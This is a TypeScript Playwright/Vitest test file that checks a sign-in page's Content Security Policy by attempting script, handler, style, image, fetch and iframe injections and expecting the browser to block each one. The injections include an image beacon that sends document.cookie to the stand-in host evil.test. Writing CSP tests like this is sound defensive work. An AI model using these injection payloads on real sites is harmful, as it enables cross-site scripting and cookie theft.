import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { openSite } from './support/site.ts';
import { watch } from './support/watch.ts';

const site = openSite();

/** What an attacker who can write into the page would try. Each attempt resolves with what the browser forbids. */
const attempts: Record<string, { directive: string; attempt: (page: Page) => Promise<unknown> }> = {
  'a script in the page': {
    directive: 'script-src-elem',
    attempt: (page) =>
      page.evaluate(() => {
        const script = document.createElement('script');
        script.textContent = 'document.title = "taken over"';
        document.body.append(script);
      }),
  },
  'a script of another host': {
    directive: 'script-src-elem',
    attempt: (page) =>
      page.evaluate(() => {
        document.body.append(
          Object.assign(document.createElement('script'), { src: 'https://evil.test/x.js' }),
        );
      }),
  },
  'a handler on an element': {
    directive: 'script-src-attr',
    attempt: (page) =>
      page.evaluate(() => {
        document.body.insertAdjacentHTML('beforeend', '<i onclick="document.title = 1">x</i>');
        document.querySelector<HTMLElement>('i[onclick]')?.click();
      }),
  },
  'a style on an element of injected HTML': {
    directive: 'style-src-attr',
    attempt: (page) =>
      page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<i style="position:fixed">x</i>')),
  },
  'an image that carries data away': {
    directive: 'img-src',
    attempt: (page) => page.evaluate(() => void (new Image().src = `https://evil.test/?${document.cookie}`)),
  },
  'a call to another host': {
    directive: 'connect-src',
    attempt: (page) => page.evaluate(() => fetch('https://evil.test/').catch(() => null)),
  },
  'a frame': {
    directive: 'frame-src',
    attempt: (page) =>
      page.evaluate(() => {
        document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.test/' }));
      }),
  },
};

test.each(Object.keys(attempts))('%s: the browser forbids it, and a test would fail', async (name) => {
  const { context } = await site.visitor();
  // This page is meant to report errors, so no watch listens to it.
  const page = await context.newPage();
  const watched = await watch(page);
  await page.goto('/sign-in');
  await page.getByRole('heading', { level: 1 }).waitFor();
  const title = await page.title();
  expect(await watched.problems()).toEqual([]);
  const { directive = '', attempt } = attempts[name] ?? {};
  await attempt?.(page);
  await expect
    .poll(async () =>
      (await watched.problems()).filter((problem) => problem.includes(`CSP forbids ${directive}`)),
    )
    .toHaveLength(1);
  expect(await page.title()).toBe(title);
});

test('no site can frame a page', async () => {
  const { context } = await site.visitor();
  const page = await context.newPage();
  const answer = await page.goto('/sign-in');
  expect(answer?.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
  expect(answer?.headers()['x-frame-options']).toBe('DENY');
});
